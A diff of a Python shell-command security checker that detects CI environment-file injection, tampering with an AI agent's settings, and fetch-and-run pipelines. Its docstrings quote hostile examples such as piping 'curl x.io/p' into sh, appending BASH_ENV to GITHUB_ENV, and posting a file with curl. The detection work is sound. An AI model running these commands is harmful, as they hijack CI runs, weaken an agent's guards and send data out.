@@ -29,9 +29,10 @@ from .. import agent_settings, kube_manifests, run_later, server_config, shipper
 from . import appbuilds, ci
 from ..finance_tables import IBAN
 from ..paths import normalize
+from ..per_input import holds, in_input
 from .sed import LINE_TEXT, SUBST
 from .commands import Cmd, has_flag, option_value, positionals
-from .common import pipeline_stage
+from .common import commands_in, commands_named, pipeline_stage
 from .exec import stdin_text
 from .files import copy_sources, write_targets, written_file
 from .words import Word, file_key, static_print
@@ -371,7 +372,7 @@ def _written(a, cmd: Cmd) -> list[str]:
 
 
 def check(a, cmd: Cmd) -> None:
-    if b"GITHUB_ENV" in a.doc.data or b"GITHUB_PATH" in a.doc.data:
+    if holds(a.doc.data, b"GITHUB_ENV") or holds(a.doc.data, b"GITHUB_PATH"):
         ci.env_file(a, cmd)
     written = _written(a, cmd)
     if written and a.downloaded.strangers and _unit_runs_stranger(a, cmd, written):
@@ -387,9 +388,9 @@ def check(a, cmd: Cmd) -> None:
             _judge(a, targets, *got, decoded=_decoded_parts(a, cmd))
         else:
             _hidden_in_source(a, cmd, targets)
-    elif written and agent_settings.GUARD_HINT.search(a.doc.data):
+    elif written and in_input(agent_settings.GUARD_HINT, a.doc.data):
         _stage(a, written, content(a, cmd))
-    if written and not targets and b"#!" in a.doc.data and _starts_shebang(a, cmd):
+    if written and not targets and holds(a.doc.data, b"#!") and _starts_shebang(a, cmd):
         _script(a, cmd, written)
 
 
@@ -475,7 +476,7 @@ def grouped(a, cmds: list[Cmd], body, redirects: list) -> None:
     """`{ echo 'require("child_process")…'; cat "$f"; } > "$f.tmp"`: the group's redirect takes what each of its
     own commands prints: the literal pieces are judged together (`echo 'curl x.io/p |'; echo sh`), and each on
     its own, as if appended to the file, when the join alone is not blocked (a `cat` of unknown text between)."""
-    if b"GITHUB_ENV" in a.doc.data or b"GITHUB_PATH" in a.doc.data:
+    if holds(a.doc.data, b"GITHUB_ENV") or holds(a.doc.data, b"GITHUB_PATH"):
         # `{ echo "A=1"; echo "BASH_ENV=/tmp/x"; } >> "$GITHUB_ENV"`: each line the group prints is appended
         for cmd in cmds:
             if cmd.node.parent == body and not cmd.redirects:
@@ -514,9 +515,7 @@ def text_written(a, path: str) -> tuple[str, object] | None:
     `printf`, `cat > f <<EOF`, `tee f <<<…`), as the staged-settings check reads it; None when the script did not
     write it or wrote something computed. Read on demand (`curl -d @f`), so no script pays for it otherwise."""
     where = _where(a, path)
-    for doc, cmd in reversed(a.ctx.commands):
-        if doc is not a.doc:
-            continue
+    for cmd in commands_named(a, (">", "cat", "tee")):
         last = _last_stage_redirects(cmd) if not cmd.redirects and cmd.name == "cat" else None
         if last:  # `printf … | cat - f > /tmp/r`: the grammar hangs the redirect on the pipeline
             out = written_file(a, last)
@@ -550,7 +549,7 @@ def piped_into(a, cmd: Cmd) -> Cmd | None:
     before = found[0][found[1] - 1]
     if before.type == "redirected_statement":
         before = before.child_by_field_name("body") or before
-    return next((c for d, c in reversed(a.ctx.commands) if d is a.doc and c.node == before), None)
+    return next((c for c in commands_in(a, [(before.start_byte, before.end_byte)]) if c.node == before), None)
 
 
 def _where(a, path: str) -> str:
@@ -590,12 +589,12 @@ def _installed(a, cmd: Cmd) -> None:
 def piped(a, sink: Cmd, source: Cmd) -> None:
     """`echo TEXT | tee FILE`, `printf … | sudo tee FILE`: literal text piped into `tee` is written as is.
     `jq FILTER FILE | sponge FILE` (or `| tee FILE`): the filter's edit is written to an agent's settings."""
-    if sink.name == "tee" and (b"GITHUB_ENV" in a.doc.data or b"GITHUB_PATH" in a.doc.data):
+    if sink.name == "tee" and (holds(a.doc.data, b"GITHUB_ENV") or holds(a.doc.data, b"GITHUB_PATH")):
         ci.env_file(a, sink, source)
     written = _written(a, sink)
     targets = [t for t in written if _target(t)]
     if not targets:
-        if written and sink.name == "tee" and agent_settings.GUARD_HINT.search(a.doc.data):
+        if written and sink.name == "tee" and in_input(agent_settings.GUARD_HINT, a.doc.data):
             _stage(a, written, content(a, source))
         return
     if source.name in _EDITORS:
@@ -1908,7 +1907,7 @@ def _edit(a, cmd: Cmd) -> None:
         if not files:
             _scripts_edit(a, cmd, [v for v in vals if _MANIFEST.search(v)])
         if not files and not later and (not out or "/" not in out or out.startswith("/tmp/")) and \
-                agent_settings.GUARD_HINT.search(a.doc.data):
+                in_input(agent_settings.GUARD_HINT, a.doc.data):
             # `sed … "$f" | jq '…' > "$tmp" && mv "$tmp" "$f"`: the edit reaches the settings file by the move
             text = jq_content(a, cmd)
             key = out or _unknown_out(a, redirects)
